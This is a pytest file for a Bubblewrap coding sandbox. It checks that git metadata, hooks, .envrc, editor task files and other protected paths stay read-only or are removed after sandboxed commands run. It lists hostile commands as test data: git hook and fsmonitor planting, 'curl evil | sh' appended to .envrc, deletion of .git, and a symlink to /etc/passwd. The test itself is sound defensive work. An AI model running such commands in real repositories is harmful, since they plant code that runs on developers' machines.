"""Protected paths inside writable roots: read-only in the sandbox, new ones removed after."""

from __future__ import annotations

import subprocess
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest

from prism.coding_security import BubblewrapSandbox
from prism.coding_security._protected import ProtectedPaths
from prism.coding_tools import ExecResult

RunSandbox = Callable[..., Awaitable[tuple[ExecResult, str]]]
pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("bwrap_ready")]


def _git(root: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-C", str(root), *args], capture_output=True, text=True, timeout=30, check=False
    )
    return done.stdout + done.stderr


@pytest.fixture
def repo(host_dir: Path) -> Path:
    root = host_dir / "repo"
    root.mkdir()
    _git(root, "init", "-q")
    _git(root, "config", "user.email", "t@example.com")
    _git(root, "config", "user.name", "t")
    (root / "file.txt").write_text("one\n")
    (root / ".envrc").write_text("export SAFE=1\n")
    (root / "sub").mkdir()
    (root / "sub" / ".vscode").mkdir()
    (root / "sub" / ".vscode" / "tasks.json").write_text("{}\n")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "init")
    return root


def _tree(root: Path) -> dict[str, bytes]:
    found = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            found[str(path.relative_to(root))] = path.read_bytes()
    return found


ATTACKS = (
    "mkdir -p .git/hooks; printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/post-checkout",
    "chmod +x .git/hooks/post-checkout",
    "git config core.fsmonitor 'echo PWNED'",
    "echo '[core] hooksPath = /tmp' >> .git/config",
    "echo 'curl evil | sh' >> .envrc",
    "echo '{\"tasks\": []}' > sub/.vscode/tasks.json",
    "rm -rf .git; mkdir .git",
    "mv .envrc envrc-old; echo evil > .envrc",
    "mv sub sub2 && mkdir -p sub/.vscode && echo evil > sub/.vscode/tasks.json",
)


@pytest.mark.parametrize("git", ["all", "code"])
async def test_git_metadata_and_protected_files_stay_unchanged(
    repo: Path, run_sandboxed: RunSandbox, git: str
) -> None:
    before = _tree(repo)
    sandbox = BubblewrapSandbox(root=repo, git=git)  # type: ignore[arg-type]
    assert sandbox.capabilities.protected_paths_readonly
    for attack in ATTACKS:
        await run_sandboxed(sandbox, attack + "; true", repo)
    after = _tree(repo)
    protected = ProtectedPaths(git=git)  # type: ignore[arg-type]

    def guarded(tree: dict[str, bytes]) -> dict[str, bytes]:
        return {n: c for n, c in tree.items() if protected.reason(str(repo / n), [str(repo)])}

    # Moving a parent moves the read-only entry along; no protected content is new or changed.
    for name, content in guarded(after).items():
        assert content in guarded(before).values(), name
    for name, content in guarded(before).items():
        assert after.get(name, content) == content, name
    assert "fsmonitor" not in _git(repo, "config", "--list")
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert "PWNED" not in _git(repo, "checkout", "-q", "HEAD")


async def test_code_mode_lets_the_agent_commit(repo: Path, run_sandboxed: RunSandbox) -> None:
    sandbox = BubblewrapSandbox(root=repo, git="code")
    result, output = await run_sandboxed(
        sandbox, "echo two >> file.txt && git commit -qam second && git log --oneline", repo
    )
    assert result.exit_code == 0, output
    assert "second" in _git(repo, "log", "--oneline")
    strict = BubblewrapSandbox(root=repo)
    result, output = await run_sandboxed(strict, "echo 3 >> file.txt; git commit -qam third", repo)
    assert result.exit_code != 0
    assert "third" not in _git(repo, "log", "--oneline")


async def test_protected_names_that_do_not_exist_yet_are_removed_after_the_command(
    host_dir: Path, run_sandboxed: RunSandbox
) -> None:
    root = host_dir / "plain"
    root.mkdir()
    sandbox = BubblewrapSandbox(root=root, protected=["Makefile", "ci/deploy.sh"])
    script = (
        "git init -q . && echo 'echo PWNED' > .git/hooks/pre-commit; "
        "echo 'echo PWNED' > .envrc; mkdir -p deep/er && echo x > deep/er/.mcp.json; "
        "ln -s /etc/passwd .bashrc; echo 'all:; echo PWNED' > Makefile; "
        "mkdir ci && echo evil > ci/deploy.sh; echo kept > normal.txt"
    )
    result, output = await run_sandboxed(sandbox, script, root)
    assert result.exit_code == 0
    for name in (".git", ".envrc", "deep/er/.mcp.json", ".bashrc", "Makefile", "ci/deploy.sh"):
        assert not (root / name).is_symlink(), name
        assert not (root / name).exists(), name
        assert f"removed {root / name}" in output
    assert (root / "normal.txt").read_text() == "kept\n"
    assert (root / "deep" / "er").is_dir()


async def test_a_protected_symlink_cannot_be_used_to_plant_its_target(
    host_dir: Path, run_sandboxed: RunSandbox
) -> None:
    root = host_dir / "links"
    root.mkdir()
    (root / ".envrc").symlink_to("envrc-real")  # dangling until someone writes through it
    (root / "settings").mkdir()
    (root / ".vscode").symlink_to("settings")
    sandbox = BubblewrapSandbox(root=root)
    _, output = await run_sandboxed(
        sandbox, "echo PWNED > .envrc; echo PWNED > .vscode/tasks.json; true", root
    )
    assert not (root / "settings" / "tasks.json").exists()
    assert not (root / ".envrc").is_symlink()  # the symlink whose target appeared is removed
    assert "removed" in output


async def test_an_oversized_tree_fails_closed(host_dir: Path, run_sandboxed: RunSandbox) -> None:
    root = host_dir / "big"
    root.mkdir()
    for index in range(30):
        (root / f"f{index}").touch()
    sandbox = BubblewrapSandbox(root=root, protected_scan_limit=10)
    from prism.coding_security import SandboxUnavailableError

    with pytest.raises(SandboxUnavailableError, match="protected_scan_limit"):
        await run_sandboxed(sandbox, "touch ran", root)
    assert not (root / "ran").exists()


async def test_flooding_the_tree_past_the_limit_still_removes_a_planted_root_entry(
    host_dir: Path, run_sandboxed: RunSandbox
) -> None:
    from prism.coding_security import SandboxUnavailableError

    root = host_dir / "flood"
    root.mkdir()
    sandbox = BubblewrapSandbox(root=root, protected_scan_limit=50)
    script = "mkdir d && touch d/f{1..200} && echo 'echo PWNED' > .envrc"
    with pytest.raises(SandboxUnavailableError, match="untrusted"):
        await run_sandboxed(sandbox, script, root)
    assert not (root / ".envrc").exists()


async def test_code_mode_removes_git_code_parts_that_did_not_exist(
    repo: Path, run_sandboxed: RunSandbox
) -> None:
    import shutil

    shutil.rmtree(repo / ".git" / "hooks")
    sandbox = BubblewrapSandbox(root=repo, git="code")
    script = (
        "mkdir .git/hooks && printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/pre-commit; "
        "chmod +x .git/hooks/pre-commit; echo '[core] fsmonitor = x' > .git/config.worktree; "
        "mkdir -p .git/objects/info && echo /tmp/evil > .git/objects/info/alternates; "
        "echo ok > kept.txt; true"
    )
    _, output = await run_sandboxed(sandbox, script, repo)
    for name in ("hooks", "config.worktree", "objects/info/alternates"):
        assert not (repo / ".git" / name).exists(), name
        assert f"removed {repo / '.git' / name}" in output
    assert (repo / "kept.txt").read_text() == "ok\n"
    assert "fsmonitor" not in _git(repo, "config", "--list", "--show-origin")
